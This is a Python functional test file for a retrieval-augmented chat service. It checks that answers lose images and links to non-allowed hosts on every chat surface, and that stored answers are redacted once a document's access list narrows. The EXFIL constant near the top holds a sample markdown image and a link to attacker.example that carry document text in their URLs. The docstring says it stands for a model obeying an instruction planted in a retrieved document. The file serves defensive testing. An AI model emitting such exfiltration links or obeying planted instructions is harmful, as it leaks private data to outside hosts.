"""Model output cannot carry data out, on every chat surface, and a stored answer read after a source
narrowed is redacted.

The model is the scripted OpenAI-compatible peer (a test double of the model only: it plays a model that
obeyed an instruction planted in a document and writes an image and a link whose URLs carry the document's
text to another host). Retrieval, routing, the provider, link checks, grounding, storage, idempotency and
the policy-enforcing reader are the real code.
"""
from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from chalice.test import Client

from chalicelib.groups import create_app
from chalicelib.knowledge import indexer
from tests.functional.chat import helpers
from tests.functional.chat.helpers import ask, post
from tests.functional.chat.test_grounding import configure
from tests.functional.conftest import Tenant, bearer
from tests.functional.gateway.data import field
from tests.functional.knowledge.helpers import put_keyed
from tests.functional.models import scripted_peer
from tests.functional.platform.helpers import call
from tests.functional.reader.surfaces import own_export

EVIL = "attacker.example"
VACATION = "Employees get thirty vacation days per year."
EXFIL = (f"{VACATION} Unused days expire in March.\n\n"
         f"![logo](http://{EVIL}/p.png?d=Employees%20get%20thirty%20vacation%20days) "
         f"Read [the vacation policy](https://{EVIL}/c?d=thirty%20vacation%20days) before March.")
DOC_FIELDS = [field("document_id"), field("file_name"), field("passage_no", "INTEGER"), field("text"),
              field("char_start", "INTEGER"), field("char_end", "INTEGER")]
NARROWED_DOC = "doc_01HZZZZZZZZZZZZZZZZZZZZZZ7"
NARROWED = "The travel desk budget is cut by forty percent next quarter."
FORM = "Leave is filed with the leave form at https://forms.example.org/leave?type=annual every year."
QUESTION = "How many vacation days do employees get?"


@pytest.fixture
def peer() -> Iterator[scripted_peer.ScriptedPeer]:
    p = scripted_peer.start()
    yield p
    p.stop()


@pytest.fixture
def world(tenant: Tenant, peer: scripted_peer.ScriptedPeer, monkeypatch: pytest.MonkeyPatch) -> helpers.World:
    configure(monkeypatch, peer.url)
    return helpers.build(tenant)


def _no_evil(*bodies: Any) -> None:
    for b in bodies:
        text = b.decode() if isinstance(b, bytes) else json.dumps(b)
        assert EVIL not in text


def _sse(body: bytes) -> list[tuple[str, dict[str, Any]]]:
    out = []
    for block in body.decode().split("\n\n"):
        lines = dict(line.split(": ", 1) for line in block.splitlines() if ": " in line)
        if "data" in lines and lines["data"] != "[DONE]":
            out.append((lines.get("event", ""), json.loads(lines["data"])))
    return out


def test_a_chat_answer_loses_outside_images_and_links_and_they_are_never_grounded(
        world: helpers.World, peer: scripted_peer.ScriptedPeer) -> None:
    peer.answer = EXFIL
    with helpers.client() as c:
        r = post(c, "/v1/chats", world.member.token, ask(QUESTION))
        assert r.status_code == 201, r.body
        stored = c.http.get(f"/v1/chats/{r.json_body['chat_id']}", headers=bearer(world.member.token))
    _no_evil(r.body, stored.body)
    body = r.json_body
    content = body["message"]["content"]
    assert content.startswith(VACATION)
    assert "logo [image removed]" in content and "the vacation policy [link removed]" in content
    per = body["grounding"]["per_sentence"]
    marked = [p for p in per if "removed]" in content[p["start"]:p["end"]]]
    assert marked and all(p["status"] == "unsupported" and p.get("link_removed") for p in marked)
    assert per[0]["status"] == "supported"
    last = stored.json_body["messages"][-1]
    assert last["content"] == content and "passages" not in last  # what is kept for redaction is never shown


def test_streamed_deltas_never_carry_the_url(world: helpers.World, peer: scripted_peer.ScriptedPeer) -> None:
    peer.answer = EXFIL
    with helpers.client() as c:
        r = post(c, "/v1/chats", world.member.token, ask(QUESTION, stream=True))
    assert r.status_code == 201, r.body
    _no_evil(r.body)
    events = _sse(r.body)
    deltas = "".join(d["text"] for e, d in events if e == "content_delta")
    assert "[image removed]" in deltas and deltas.startswith(VACATION)
    final = next(d for e, d in events if e == "citations")
    assert "the vacation policy [link removed]" in final["content"]


def test_openai_completions_plain_and_streamed_lose_them_too(world: helpers.World,
                                                              peer: scripted_peer.ScriptedPeer) -> None:
    peer.answer = EXFIL
    with helpers.client() as c:
        plain = post(c, "/v1/chat/completions", world.member.token, ask(QUESTION))
        streamed = post(c, "/v1/chat/completions", world.member.token, ask(QUESTION, stream=True))
    assert plain.status_code == 200 and streamed.status_code == 200, (plain.body, streamed.body)
    _no_evil(plain.body, streamed.body)
    assert "[image removed]" in plain.json_body["choices"][0]["message"]["content"]
    pieces = "".join(e["choices"][0]["delta"].get("content", "") for _, e in _sse(streamed.body) if e["choices"])
    assert "[link removed]" in pieces


def test_allowed_hosts_and_cited_sources_keep_their_links(tenant: Tenant, world: helpers.World,
                                                         peer: scripted_peer.ScriptedPeer) -> None:
    forms = put_keyed(tenant.workspace_id, tenant.region, "forms", [field("topic"), field("body")], [("leave", FORM)])
    indexer.index_dataset(tenant.region, tenant.workspace_id, forms)
    with Client(create_app("platform")) as c:
        status, ws, _ = call(c, "PATCH", f"/v1/workspaces/{tenant.workspace_id}", tenant.token,
                             {"answer_link_hosts": ["Docs.Example.com", "*.corp.example"]})
    assert status == 200, ws
    assert ws["settings"]["answer_link_hosts"] == ["docs.example.com", "*.corp.example"]
    peer.answer = (f"{VACATION} See [the handbook](https://docs.example.com/hr?s=1) and "
                   f"[the wiki](https://wiki.corp.example/leave). {FORM} "
                   f"Or [this](https://forms.example.org/leave?type=annual&d=thirty) one.")
    with helpers.client() as c:
        r = post(c, "/v1/chats", world.member.token, ask("How do employees file leave and vacation days?"))
    content = r.json_body["message"]["content"]
    assert "[the handbook](https://docs.example.com/hr?s=1)" in content
    assert "[the wiki](https://wiki.corp.example/leave)" in content
    assert FORM in content  # the URL stands in the cited source
    assert "this [link removed]" in content  # the same host with other data in the URL is not


@pytest.mark.parametrize("bad", [["https://docs.example.com"], ["1.2.3.4"], ["docs.example.com/x"], "docs.example.com",
                                 [f"h{i}.example.com" for i in range(51)]])
def test_bad_link_hosts_are_a_400_and_change_nothing(tenant: Tenant, bad: Any) -> None:
    path = f"/v1/workspaces/{tenant.workspace_id}"
    with Client(create_app("platform")) as c:
        status, body, _ = call(c, "PATCH", path, tenant.token, {"answer_link_hosts": bad})
        assert status == 400 and body["code"] == "validation_failed", body
        assert body["errors"][0]["field"] == "answer_link_hosts"
        status, ws, _ = call(c, "GET", path, tenant.token)
    assert ws["settings"]["answer_link_hosts"] == []


def test_only_an_admin_sets_link_hosts(tenant: Tenant, world: helpers.World) -> None:
    with Client(create_app("platform")) as c:
        status, body, _ = call(c, "PATCH", f"/v1/workspaces/{tenant.workspace_id}", world.member.token,
                               {"answer_link_hosts": [EVIL]})
        assert status == 403, body
        _, ws, _ = call(c, "GET", f"/v1/workspaces/{tenant.workspace_id}", tenant.token)
    assert ws["settings"]["answer_link_hosts"] == []


# --- redaction on read after an ACL narrows -------------------------------------------------------------

def _narrowable(tenant: Tenant) -> str:
    ds = put_keyed(tenant.workspace_id, tenant.region, "travel_docs", DOC_FIELDS, [
        (NARROWED_DOC, "budget.md", 1, NARROWED, 0, len(NARROWED))])
    indexer.index_dataset(tenant.region, tenant.workspace_id, ds)
    return ds


def _narrow(tenant: Tenant, ds: str) -> None:
    with Client(create_app("gateway")) as g:
        status, body, _ = call(g, "PUT", f"/v1/knowledge/datasets/{ds}/documents/{NARROWED_DOC}/acl", tenant.token,
                               {"acl": [{"type": "role", "id": "admin"}]})
    assert status == 200, body


def test_a_stored_chat_and_its_replays_redact_a_source_no_longer_readable(
        tenant: Tenant, world: helpers.World, peer: scripted_peer.ScriptedPeer) -> None:
    ds = _narrowable(tenant)
    peer.answer = f"{NARROWED} {VACATION}"
    question = ask("What happens to the travel desk budget next quarter, and how many vacation days are there?")
    with helpers.client() as c:
        first = post(c, "/v1/chats", world.member.token, question, headers={"Idempotency-Key": "narrow-1"})
        streamed = post(c, "/v1/chats", world.member.token, {**question, "stream": True},
                        headers={"Idempotency-Key": "narrow-2"})
        compat = post(c, "/v1/chat/completions", world.member.token, question, headers={"Idempotency-Key": "narrow-3"})
    assert first.status_code == 201 and "forty percent" in first.json_body["message"]["content"], first.body
    assert streamed.status_code == 201 and compat.status_code == 200
    with helpers.client() as c:
        found = c.http.get("/v1/chats?q=forty+percent", headers=bearer(world.member.token)).json_body
    assert len(found["items"]) == 3, found
    _narrow(tenant, ds)
    with helpers.client() as c:
        stored = c.http.get(f"/v1/chats/{first.json_body['chat_id']}", headers=bearer(world.member.token))
        replayed = post(c, "/v1/chats", world.member.token, question, headers={"Idempotency-Key": "narrow-1"})
        replayed_stream = post(c, "/v1/chats", world.member.token, {**question, "stream": True},
                               headers={"Idempotency-Key": "narrow-2"})
        replayed_compat = post(c, "/v1/chat/completions", world.member.token, question,
                               headers={"Idempotency-Key": "narrow-3"})
        found = c.http.get("/v1/chats?q=forty+percent", headers=bearer(world.member.token)).json_body
        vacation = c.http.get("/v1/chats?q=thirty+vacation", headers=bearer(world.member.token)).json_body
    assert found["items"] == [] and len(vacation["items"]) == 3  # search finds only what may be read
    assert all("forty" not in i["snippet"] for i in vacation["items"])
    assert replayed.headers.get("Idempotent-Replayed") == "true"
    for r in (stored, replayed, replayed_stream, replayed_compat):
        assert r.status_code in (200, 201), r.body
        assert "forty percent" not in r.body.decode() and "[redacted: its source is no longer readable by you]" \
            in r.body.decode()
    answer = stored.json_body["messages"][-1]
    assert answer["redacted"]["reason"] == "source_no_longer_readable" and answer["redacted"]["sentences"] == 1
    assert VACATION in answer["content"]  # what the reader may still read stays
    for s in answer["grounding"]["per_sentence"]:  # spans follow the redacted text
        assert answer["content"][s["start"]:s["end"]].strip()
    assert all(c["quote"] is None for c in answer["citations"] if c.get("redacted"))
    assert replayed.json_body["redacted"]["sentences"] == 1
    exported = own_export(tenant, world.member)  # her data export holds her chats as she may read them now
    assert "forty percent" not in exported and "[redacted: its source is no longer readable by you]" in exported
    assert VACATION in exported
    # the Admin still reads every document: her own view of the same kind of answer is whole
    with helpers.client() as c:
        admin = post(c, "/v1/chats", tenant.token, question)
        again = c.http.get(f"/v1/chats/{admin.json_body['chat_id']}", headers=bearer(tenant.token))
    assert "forty percent" in again.json_body["messages"][-1]["content"]
    assert "redacted" not in again.json_body["messages"][-1]


def test_an_agent_run_redacts_a_source_no_longer_readable(tenant: Tenant, world: helpers.World) -> None:
    from tests.functional.agents.helpers import deliver

    ds = _narrowable(tenant)
    agent = {"name": "Budget reader", "instructions": "Read.", "model": "auto", "tools": ["knowledge_search"],
             "plan": [{"name": "search", "tool": "knowledge_search",
                       "input": {"query": "travel desk budget next quarter"}}],
             "limits": {"max_steps": 3, "deadline": "PT10M", "max_tokens": 2000}}
    with Client(create_app("platform")) as c:
        status, created, _ = call(c, "POST", "/v1/agents", tenant.token, agent)
        assert status == 201, created
        path = f"/v1/agents/{created['id']}/runs"
        status, run, _ = call(c, "POST", path, world.member.token, {"input": {"question": "The travel desk budget?"}},
                              headers={"Idempotency-Key": "run-1"})
        assert status == 202, run
        deliver(tenant.region)
        status, before, _ = call(c, "GET", f"{path}/{run['id']}", world.member.token)
        assert before["status"] == "completed" and "forty percent" in json.dumps(before), before
        _narrow(tenant, ds)
        reads = [call(c, "GET", f"{path}/{run['id']}", world.member.token),
                 call(c, "GET", path, world.member.token),
                 call(c, "POST", path, world.member.token, {"input": {"question": "The travel desk budget?"}},
                      headers={"Idempotency-Key": "run-1"})]
    for status, body, _ in reads:
        assert status in (200, 202), body
        assert "forty percent" not in json.dumps(body)
    after = reads[0][1]
    assert after["redacted"]["reason"] == "source_no_longer_readable" and after["redacted"]["steps"] == 1
    passage = next(p for p in after["steps"][0]["output"]["passages"] if p.get("redacted"))
    assert passage["citation"]["quote"] is None
    assert all("_read" not in s for s in after["steps"])


def test_an_answer_stored_before_links_were_checked_is_checked_on_read(
        tenant: Tenant, world: helpers.World, peer: scripted_peer.ScriptedPeer) -> None:
    from chalicelib.chat.models import chats

    peer.answer = VACATION
    with helpers.client() as c:
        made = post(c, "/v1/chats", world.member.token, ask(QUESTION)).json_body
    item = chats(tenant.region).get(tenant.workspace_id, made["chat_id"])
    messages = json.loads(item.messages)
    legacy = {k: v for k, v in messages[-1].items() if k != "passages"}
    messages[-1] = {**legacy, "content": EXFIL}
    item.messages = json.dumps(messages)
    item.save()
    with helpers.client() as c:
        r = c.http.get(f"/v1/chats/{made['chat_id']}", headers=bearer(world.member.token))
    _no_evil(r.body)
    assert "logo [image removed]" in r.json_body["messages"][-1]["content"]
